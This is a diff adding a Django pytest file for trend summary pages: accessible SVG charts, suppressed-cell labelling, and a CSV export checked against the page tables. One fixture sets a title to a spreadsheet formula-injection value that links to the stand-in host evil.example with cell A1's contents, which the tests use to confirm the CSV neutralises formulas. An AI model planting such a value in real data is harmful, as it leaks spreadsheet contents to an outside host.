@@ -1,0 +1,127 @@
+"""Trend summaries as people see them: SVG charts with a text alternative and labelled gaps,
+the table beside each, a CSV equal to the tables and safe to open in a spreadsheet (I05)."""
+
+import csv
+import io
+
+import pytest
+
+from groups.models import TrendSummaryPage
+from tests.factories import (
+    OrganisationFactory,
+    TrendReturnFactory,
+    make_member,
+    make_trend_summary,
+    trend_counts,
+    with_authenticator,
+)
+from tests.html import soup
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def summary(cumbria):
+    """A published summary where the 4 boys (and what must hide them) are suppressed."""
+    for total, given in ((20, {}), (20, {}), (4, {"gender_boys": 4})):
+        TrendReturnFactory(
+            working_group=cumbria, organisation=OrganisationFactory(), total=total, counts=trend_counts(total, **given)
+        )
+    return make_trend_summary(cumbria, title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+
+
+@pytest.fixture
+def member_client(client, cumbria):
+    client.force_login(with_authenticator(make_member(cumbria)))
+    return client
+
+
+def html_tables(response):
+    """(caption, row label, figure) for every row of every table on the page."""
+    rows = []
+    for table in soup(response).select("table.portal-summary-table"):
+        caption = table.caption.get_text(strip=True)
+        for row in table.select("tbody tr"):
+            rows.append((caption, row.th.get_text(strip=True), row.td.get_text(strip=True)))
+    return rows
+
+
+def csv_rows(response):
+    text = response.content.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_each_chart_has_a_text_alternative_and_suppressed_cells_are_labelled_gaps(member_client, summary):
+    page = soup(member_client.get(summary.url))
+    charts = page.select("svg.portal-chart")
+    assert len(charts) == 8  # the trend and seven breakdowns
+    for chart in charts:
+        assert chart["role"] == "img"
+        title_id, desc_id = chart["aria-labelledby"].split()
+        assert chart.find(id=title_id).name == "title" and chart.find(id=title_id).get_text(strip=True)
+        assert chart.find(id=desc_id).name == "desc"
+        # The table with the same figures sits beside it.
+        section = chart.find_parent("section")
+        assert section.select_one("table.portal-summary-table") is not None
+    gender = next(c for c in charts if c.title.get_text() == "Gender")
+    assert "Boys and young men: hidden [c]" in gender.desc.get_text()
+    gap = gender.select_one(".portal-chart__mark--gap")
+    assert gap is not None and "[c]" in gap.get_text() and "Boys and young men" in gap.get_text()
+    assert gap.rect["fill"] == "none" and gap.rect.get("stroke-dasharray")
+    # No inline styles (CSP) and no script.
+    assert not page.select("[style]") and not page.select("main script")
+
+
+def test_the_legend_and_rounding_note_are_shown(member_client, summary):
+    text = soup(member_client.get(summary.url)).get_text(" ", strip=True)
+    assert "[c] Confidential" in text
+    assert "rounded to the nearest 5" in text
+
+
+def test_the_csv_holds_exactly_the_published_tables(member_client, summary):
+    tables = html_tables(member_client.get(summary.url))
+    response = member_client.get(f"/members/summaries/{summary.pk}/summary.csv")
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment" in response["Content-Disposition"]
+    rows = csv_rows(response)
+    figures = [tuple(row) for row in rows[1:] if row[0] not in ("Summary", "Quarter", "Note")]
+    assert figures == tables
+    assert ("Gender", "Boys and young men", "[c]") in figures
+    # Nothing but published values: every figure is [c] or a multiple of 5.
+    assert all(value == "[c]" or int(value) % 5 == 0 for _, _, value in figures)
+
+
+def test_the_csv_is_safe_against_formula_injection(member_client, summary):
+    rows = csv_rows(member_client.get(f"/members/summaries/{summary.pk}/summary.csv"))
+    title = rows[1][1]
+    assert title.startswith("'=HYPERLINK")
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_the_public_csv_equals_the_public_page(client, summary):
+    summary.publish_publicly = True
+    summary.save_revision().publish()
+    quarter = summary.period
+    url = f"/trends/cumbria/{quarter.year}-q{quarter.number}/"
+    tables = html_tables(client.get(url))
+    rows = csv_rows(client.get(url + "summary.csv"))
+    assert [tuple(row) for row in rows[1:] if row[0] not in ("Summary", "Quarter", "Note")] == tables
+    assert rows[1][1].startswith("'=")
+
+
+def test_the_narrative_allows_no_images_or_embeds():
+    features = TrendSummaryPage._meta.get_field("narrative").features
+    assert "image" not in features and "embed" not in features and "document-link" not in features
+
+
+def test_a_summary_without_figures_says_so(member_client, cumbria):
+    from groups.models import TrendSummarySnapshot
+
+    page = make_trend_summary(cumbria)
+    TrendSummarySnapshot.objects.filter(page=page).delete()
+    response = member_client.get(page.url)
+    assert response.status_code == 200
+    assert "The figures for this summary are not available" in response.content.decode()
+    assert member_client.get(f"/members/summaries/{page.pk}/summary.csv").status_code == 404
